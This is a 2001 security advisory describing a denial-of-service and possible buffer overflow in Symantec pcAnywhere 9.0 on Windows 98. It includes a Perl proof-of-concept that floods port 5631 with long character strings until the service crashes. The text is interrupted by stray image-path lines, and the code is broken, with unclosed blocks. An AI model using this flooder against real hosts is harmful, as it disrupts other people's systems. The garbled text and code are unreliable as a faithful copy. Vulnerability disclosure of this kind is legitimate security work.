Type packetstorm
Reporter Root-dude
Modified 2001-02-14T00:00:00


Securax-SA-14 Security Advisory Dutch
Topic: Symantec pcAnywhere 9.0 DoS / Buffer Overflow
Announced: 2001-02-08
Affects: Symantec PcAnywhere 9.0 on Microsoft Windows 98 SE
Note: This entire advisory has been based upon trial and error results. We
can not ensure the information below is 100% correct being that we donot have any source code to audit. This document is subject to change
without prior notice.
If you happen to find more information / problems concerning the below
problem or further varients please contact me on the following email, or you can contact
I. Problem Description
Symantec PcAnywhere is a program that will allow others (who are authorised
to have access :)) to use your pc. It's simular to a Windows NT 4.0 terminal
PcAnywhere (when it's configured to 'be a host pc') listens on 2 ports, 5631
(pcanywheredata, according to nmap) and 65301 (pcanywhere). And when a user
sends certain data in a particular way, pcAnywhere will crash.
When a large amount (it depends, sometimes the host will go down with 320kcharacters, sometimes, you will have to send 500k bytes of data) are sent to
a 'waiting' host on the pcanywheredata port, "AWHOST32.EXE" will crash, and
give an error on the screen, and write the "Unexpected program error" to a
logfile. (with EAX, EBX, ... so read them, you'll find the yummy 0x61616161)
Oh yeah, don't use uppercase characters, as PcAnywhere won't crash on them.
Why no exploit, just a lame Denial of Service?
1.) because I suck in win32 debugging / overflowing (but i'm reading)
/* so if I can overflow win32 progs, i'll code an exploit */
2.) as the amount of data is variable, it's hard to overflow..
The DoS code:
# Symantec PcAnywhere 9.0 Denial ofService
# ---
# by incubus <>
# All my love to Tessa.
# Greetz to: f0bic, r00tdude, t0micron, senti, vorlon, cicero,
# Zym0tic, segfault,
# Thanks to jurgen swennen, for letting me (ab)use his computer.
# this is intended as proof of concept, do not abuse!
use IO::Socket;
$host = "$ARGV[0]";
$port = 5631;
if ($#ARGV<0) {
print "use it like: $0 <hostname>\n";
$socket = IO::Socket::INET->new(Proto=>"tcp", PeerAddr=>$host,
PeerPort=>$port) || die "damn, ";
print"hello\n";
$buf = "";for($counter = 0; $counter < 500000; $counter++) {
$buf .= "\x61";
print $socket "$buf\n";
II. Impact
If someone exploits this, than Symantec is forced to rename the name of this
product to PcAnyoneAnywhere or something...
No, seriously, this could lead to a compromise of a system.
III. possible workarounds
This advisory was also sent to Symantec (, we'll see what
they do with it...
IV credits
love to Tessa.
greetz go out to : f0bic, r00t, Zym0t1c, vorlon, cicer0, tomicron, segfau|t,
and so many, many others Iforgot...
For more information